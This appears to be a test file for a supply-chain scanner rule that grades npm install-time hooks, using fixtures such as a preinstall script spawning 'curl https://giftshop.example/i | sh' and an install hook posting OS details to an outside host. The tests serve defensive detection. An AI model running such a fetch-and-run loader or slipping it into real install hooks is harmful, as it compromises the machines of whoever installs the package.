import { fact } from '../support/facts.js'
import { casesOf } from '../support/heuristics.js'

const hook = fact(
  'install.script',
  'preinstall: node setup.js',
  { event: 'preinstall', command: 'node setup.js', file: 'setup.js', hash: 'a1' },
  { reach: 'install', file: 'package.json' },
)
const onInstall = { reach: 'install' as const, file: 'setup.js' }
const loader = fact(
  'process.spawn',
  'curl https://giftshop.example/i | sh',
  { command: 'curl https://giftshop.example/i | sh', shell: true, downloads: true },
  onInstall,
)

casesOf('install-time-behaviour', ({ fires, silent }) => {
  fires('a first audit', { facts: [hook, loader] }, { severity: 'critical' })
  fires(
    'an attack that lies a release back',
    { before: [hook, loader], facts: [hook, loader] },
    { severity: 'critical' },
  )
  fires(
    'programs that are started',
    { facts: [hook, fact('process.spawn', 'some-tool --setup', { command: 'some-tool --setup' }, onInstall)] },
    { severity: 'medium' },
  )

  silent('a hook that counts installations', {
    facts: [hook, fact('data.flow', 'env:npm_config_user_agent -> net:metrics.giftshop.example', {}, onInstall)],
  })
  silent('a hook that prints', { facts: [hook] })
  silent('a hook that builds', {
    facts: [
      fact(
        'install.script',
        'install: node-gyp rebuild',
        { event: 'install', command: 'node-gyp rebuild', file: '', hash: '' },
        onInstall,
      ),
    ],
  })
  silent('an accepted hook', { from: 'lock', before: [hook, loader], facts: [hook, loader] })
  silent('the same code, run by the server', { facts: [{ ...loader, reach: 'runs' }] })

  const tool = fact('process.spawn', 'some-tool --setup', { command: 'some-tool --setup' }, onInstall)
  silent('programs that the release before started', { before: [hook, tool], facts: [hook, tool] }, 'low')
  const counting = fact(
    'net.egress',
    'POST count.giftshop.example',
    { host: 'count.giftshop.example', carries: ['recon:os'] },
    onInstall,
  )
  fires(
    'the same, and it tells of the machine',
    { before: [hook, tool, counting], facts: [hook, tool, counting] },
    { severity: 'medium' },
  )
})
